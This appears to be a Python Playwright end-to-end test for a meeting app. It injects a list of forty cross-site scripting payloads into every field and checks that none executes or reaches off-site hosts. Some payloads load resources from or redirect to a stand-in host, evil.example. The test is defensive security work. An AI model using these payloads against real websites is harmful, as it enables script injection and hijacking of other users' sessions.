"""Scripts in every text: nothing runs, no policy is hurt, and no word is in an address.

Forty payloads go into every text that a meeting writes, over HTTP and the socket, while three
people look at the room live; then every view is loaded with all of it in it.
"""

import asyncio
import itertools
import threading
from collections.abc import Coroutine, Iterator
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any, TypeVar
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from tests.e2e.conftest import STATIC
from tests.e2e.world import Served, Someone, served
from tests.hostile.talking import Talk
from tests.tiers import TORTURE, by_tier

pytestmark = pytest.mark.browser

T = TypeVar("T")
LINE_CHARS = 185
RAN = "window.xss = () => console.error('policy: a script ran')"

PAYLOADS = (
    "<script>xss()</script>",
    "<img src=x onerror=xss()>",
    "<svg onload=xss()>",
    '"><script>xss()</script>',
    "'><img src=x onerror=xss()>",
    "</textarea><svg/onload=xss()>",
    "</title><script>xss()</script>",
    "<body onload=xss()>",
    "<iframe srcdoc='<script>parent.xss()</script>'>",
    "<iframe src=javascript:xss()>",
    "<a href=javascript:xss()>x</a>",
    "javascript:xss()",
    "data:text/html,<script>xss()</script>",
    "<details open ontoggle=xss()>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    "<input autofocus onfocus=xss()>",
    "<marquee onstart=xss()>",
    "<math><mi xlink:href=javascript:xss()>x",
    "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<form action=//evil.example><button>x</form>",
    "{{constructor.constructor('xss()')()}}",
    "${xss()}",
    "#{xss()}",
    "{@html '<svg onload=xss()>'}",
    "<scr<script>ipt>xss()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg><script>xss()</script>",
    "<img src=`x`onerror=xss()>",
    "\\x3cscript\\x3exss()",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "%3Cscript%3Exss()",
    "<noscript><p title='</noscript><svg onload=xss()>'>",
    "<template><svg onload=xss()></template>",
    "[x](javascript:xss())",
)


SIZES: tuple[dict[str, Any], ...] = (
    {"viewport": {"width": 1280, "height": 800}},
    {"viewport": {"width": 390, "height": 800}},
    {"viewport": {"width": 300, "height": 420}},
)


def lines() -> list[str]:
    """The payloads, as many together as a title or a name holds."""
    packed = [""]
    for payload in PAYLOADS:
        if len(packed[-1]) + len(payload) > LINE_CHARS:
            packed.append("")
        packed[-1] += payload
    return packed


TURNS = by_tier((0, 3), tuple(range(len(lines()))))
"""In `make torture` every line of payloads stands once in every title and name; else each in
some of them."""
HERE = {"127.0.0.1", "localhost"}


class Words:
    """What is written: all payloads in a text, in each line others; numbered, so names differ."""

    def __init__(self, turn: int) -> None:
        self._lines = lines()
        self._turn = turn
        self._numbers = itertools.count()
        self._text = "\n".join(PAYLOADS)

    def __call__(self, field: str) -> str:
        is_line = field.rpartition(" ")[2] in ("name", "your_name", "title") or field in LINES
        number = next(self._numbers)
        line = self._lines[(number + self._turn) % len(self._lines)]
        return f"{number} {line if is_line else self._text}"


LINES = {"bid.title", "reflect.skill", "format.title", "format.phase.title", "format.prompt.text"}


class Elsewhere:
    """A loop in a thread: the pages have this one."""

    def __init__(self) -> None:
        self.stack = AsyncExitStack()
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever)
        self._thread.start()

    def run(self, work: Coroutine[Any, Any, T]) -> T:
        """What comes of it."""
        return asyncio.run_coroutine_threadsafe(work, self._loop).result(60)

    def stop(self) -> None:
        """Closes what was entered, and ends the thread."""
        self.run(self.stack.aclose())
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)
        self._loop.close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    made = Elsewhere()
    yield made
    made.stop()


@pytest.fixture(scope="module")
def server(_migrated_sqlite: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    path = tmp_path_factory.mktemp("scripts") / "setroom.db"
    path.write_bytes(_migrated_sqlite.read_bytes())
    with served(f"sqlite:///{path}", STATIC) as running:
        yield running


class Onlooker(Someone):
    """Somebody whose page tells of every script that runs and every address that is asked for."""

    def __init__(self, browser: Browser, served: Served, cookie: str = "", **options: Any) -> None:
        self.asked: list[str] = []
        super().__init__(browser, served, **options)
        self.context.add_init_script(RAN)
        if cookie:
            self.context.add_cookies([{"name": "setroom", "value": cookie, "url": served.url}])

    def open_page(self) -> Page:
        page = super().open_page()
        page.on("request", lambda request: self.asked.append(request.url.partition("#")[0]))
        page.on("websocket", lambda socket: self.asked.append(socket.url))
        page.on("dialog", self._dialog)
        return page

    def _dialog(self, dialog: Dialog) -> None:
        self.troubles.append("dialog")
        dialog.dismiss()

    def looks_at(self, path: str) -> None:
        """Loads a view and waits until it stands."""
        self.page.goto(path)
        expect(self.page.get_by_role("heading", level=1).first).to_be_visible()


@pytest.mark.parametrize("turn", TURNS)
def test_no_script_runs(chromium: Browser, server: Served, elsewhere: Elsewhere, turn: int) -> None:
    stack = elsewhere.stack

    async def begin() -> Talk:
        once = httpx.Limits(max_keepalive_connections=0)
        cora, ben, cem = [
            await stack.enter_async_context(
                httpx.AsyncClient(base_url=server.url, timeout=20, limits=once)
            )
            for _ in range(3)
        ]
        talk = Talk(cora, ben, cem, Words(turn))
        await talk.begin(stack)
        return talk

    talk = elsewhere.run(begin())
    room, home = f"/m/{talk.meeting}", f"/s/{talk.made['id']}"
    onlookers = [
        Onlooker(chromium, server, browser.cookies["setroom"], **size)
        for (_, browser), size in zip(talk._browsers(), SIZES, strict=True)
    ]
    stranger = Onlooker(chromium, server)
    for each in onlookers:
        each.looks_at(room)
    whole = turn == 0 or TORTURE  # the others see the same views by what changes in them
    for (_, step), each in zip(talk.steps(), itertools.cycle(onlookers), strict=False):
        elsewhere.run(step())
        if whole:
            each.looks_at(room)
    more = (f"/m/{talk.made['next']}", f"{home}/formats", "/") if whole else ()
    for path in (f"{room}/report", home, *more):
        onlookers[0].looks_at(path)
        assert "xss()" in onlookers[0].page.inner_text("body") or path == "/"
    stranger.looks_at(talk.made["invite"]["url"].replace("localhost", "127.0.0.1"))
    secret = talk.made["invite"]["url"].partition("#")[2].partition(".")[2]
    for each in (*onlookers, stranger):
        each.page.evaluate("1")  # whatever the page had to say has been said
        assert each.troubles == []
        assert [url for url in each.asked if "xss" in url or secret in url] == []
        assert {urlsplit(url).hostname for url in each.asked} <= {*HERE, None}
        each.leaves()


def test_a_script_that_ran_would_be_seen(chromium: Browser, server: Served) -> None:
    someone = Onlooker(chromium, server)
    someone.looks_at("/")
    assert someone.troubles == []
    someone.page.evaluate("xss()")
    assert someone.troubles == ["policy: a script ran"]
    with pytest.raises(Exception, match="TrustedHTML"):
        someone.page.evaluate("document.body.innerHTML = '<img src=x onerror=xss()>'")
    someone.page.evaluate(
        "const link = document.createElement('a'); link.href = 'javascript:xss()';"
        "document.body.append(link); link.click()"
    )
    expect(someone.page.locator("body")).to_be_attached()
    assert "policy: require-trusted-types-for" in someone.troubles
    someone.leaves()
